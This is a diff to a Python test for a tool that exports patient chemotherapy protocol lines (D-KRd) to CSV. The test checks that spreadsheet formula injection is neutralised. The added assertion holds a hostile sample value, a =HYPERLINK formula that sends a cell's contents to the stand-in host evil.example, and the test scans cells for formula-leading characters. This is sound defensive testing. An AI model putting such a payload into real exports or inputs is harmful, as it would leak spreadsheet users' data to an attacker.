@@ -197,7 +197,8 @@ def test_patient_lines_never_hand_a_spreadsheet_a_formula(tmp_path):
     out = tmp_path / "all.csv"
     _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
     text = out.read_bytes().decode("utf-8")
-    assert f"# patient {HOSTILE}: height 180 cm" in text
+    # the piece after the comma would open a quoted field in a spreadsheet: it is neutralised
+    assert "# patient =HYPERLINK(\"http://evil.example/?x=\"&A1,'\"click\"): height 180 cm" in text
     for cells in csv.reader(io.StringIO(text)):
         for cell in cells:
             if cell.lstrip()[:1] in {"=", "+", "-", "@"}:
